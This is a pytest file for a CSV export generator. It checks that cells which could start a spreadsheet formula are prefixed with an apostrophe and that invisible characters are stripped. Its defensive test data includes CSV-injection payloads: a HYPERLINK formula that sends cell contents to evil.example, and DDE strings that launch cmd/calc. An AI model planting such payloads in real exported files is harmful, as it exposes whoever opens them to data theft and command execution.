"""Text cells in published CSVs: no spreadsheet formulas, no invisible characters (generator/cells.py)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from generator import downloads, load
from generator.validate import validate_project

from .conftest import MINIMAL_FILES, csv_text, make_package

#: What a spreadsheet reads as the start of a formula (OWASP "CSV injection"), also full-width.
FORMULA_START = tuple("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
#: A number as a plan prints it: a sign or comparator, digits, spaces, "." "," and "%" (or nothing).
NUMBER_AS_WRITTEN = set("=+-\u2212\uff1d\uff0b\uff0d0123456789 \u00a0\u202f.,%")


def starts_formula(cell: str) -> bool:
    """A cell a spreadsheet would run: a formula start followed by more than a number as written.

    Deliberately looser than ``cells.neutralise`` (any mix of the number characters passes here),
    so the tests below check the published files against the rule, not against themselves."""
    return cell.startswith(FORMULA_START) and not set(cell) <= NUMBER_AS_WRITTEN or cell.startswith(("@", "\uff20", "\t", "\r"))


KEEP = ["-26328", "-26 328", "-26\u00a0328", "-26\u202f328", "\u221226 328", "=", "=0", "= 100%", "-0.4", "-3",
        "+5", "-", "\uff0d26 328", "13", "", "Väntetid i dagar", "'=1+1", " =1+1", "≤2"]
PREFIX = ["+ demografi", "- effektivisering", "=1+1", '=HYPERLINK("http://evil.example/?d="&A1,"Klicka här")',
          "+cmd|' /C calc'!A0", "@SUM(A1)", "\t=cmd", "\r=cmd", "-2+3+cmd|' /C calc'!A0", "=-5–10", "@",
          "\uff1dHYPERLINK(\"http://evil.example\")", "\uff0bcmd", "\uff0d cmd", "\uff20SUM(A1)", "-1e5", "=0x10"]


@pytest.mark.parametrize("text", KEEP)
def test_numbers_and_plain_text_stay_as_they_are(text: str):
    from generator.cells import neutralise

    assert neutralise(text) == text


@pytest.mark.parametrize("text", PREFIX)
def test_a_cell_that_could_start_a_formula_gets_a_leading_apostrophe(text: str):
    from generator.cells import neutralise

    assert neutralise(text) == "'" + text
    assert neutralise(neutralise(text)) == "'" + text  # once is enough


def test_invisible_characters_are_removed():
    from generator.cells import strip_invisible

    assert strip_invisible("Kortare\u200b väntetider\u200c\u200d\u2060\ufeff") == "Kortare väntetider"
    assert strip_invisible("\ufeffA\u00a0B") == "A\u00a0B"  # a no-break space is visible: it stays


def test_neutralise_csv_rewrites_every_cell_and_keeps_the_rest():
    from generator.cells import neutralise_csv

    text = ('id,text,amount\r\na,"+ demografi",-26 328\r\nb,"=HYPERLINK(""x"")\nrad två",=0\r\n'
            'c,\u200b=1+1,\ufeff-3\r\n')
    out = neutralise_csv(text)
    rows = list(csv.reader(io.StringIO(out, newline="")))
    assert rows == [["id", "text", "amount"], ["a", "'+ demografi", "-26 328"],
                    ["b", "'=HYPERLINK(\"x\")\nrad två", "=0"], ["c", "'=1+1", "-3"]]
    assert "\r" not in out and out.endswith("\n")
    assert neutralise_csv("") == ""


def _payload_package(tmp_path: Path) -> Path:
    files = dict(MINIMAL_FILES)
    files["indicators.csv"] = files["indicators.csv"].replace(
        "Väntetid i dagar", '"=HYPERLINK(""http://evil.example/?d=""&A1,""Klicka här"")"').replace(
        ",1,1,\n", ",1,1,@SUM(A1)\n")
    files["observations.csv"] = files["observations.csv"].replace(
        "vantetid,2022,utfall,T,,13,,13,,,", "vantetid,2022,utfall,T,,,,-cmd|' /C calc'!A0,,,\"+cmd|' /C calc'!A0\"")
    files["goals.csv"] = files["goals.csv"].replace("Kortare väntetider", "\u200b=1+1")
    files["budget_lines.csv"] = files["budget_lines.csv"].replace("Verksamhet A", "-2+3+cmd|' /C calc'!A0")
    files["budget_values.csv"] = csv_text(
        ["line_id", "column", "period", "value_type", "measure", "amount", "printed", "note"],
        [["a", "Budget 2024", "2024", "budget", "netto", "", "=1+1", "\t=cmd"],
         ["summa", "Budget 2024", "2024", "budget", "netto", "-30.4", "-30,4", ""]])
    for name, text in files.items():
        assert text != MINIMAL_FILES[name] or name in ("budget_tables.csv",), name
    return make_package(tmp_path, files=files)


def test_downloads_hold_no_cell_that_starts_a_formula(tmp_path: Path):
    folder = _payload_package(tmp_path)
    assert validate_project(tmp_path / "datapackages").ok  # such text is published, not rejected
    plan = load.load_plan(folder)
    files = downloads.render_downloads([plan])
    cells = [cell for name, text in files.items() if name.endswith(".csv")
             for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert "-30.4" in cells and "-30400000" in cells  # numbers are numbers
    formulas = [cell for cell in cells if starts_formula(cell)]
    assert formulas == []
    assert "'=1+1" in cells and "'+cmd|' /C calc'!A0 -cmd|' /C calc'!A0" in cells  # the text is kept
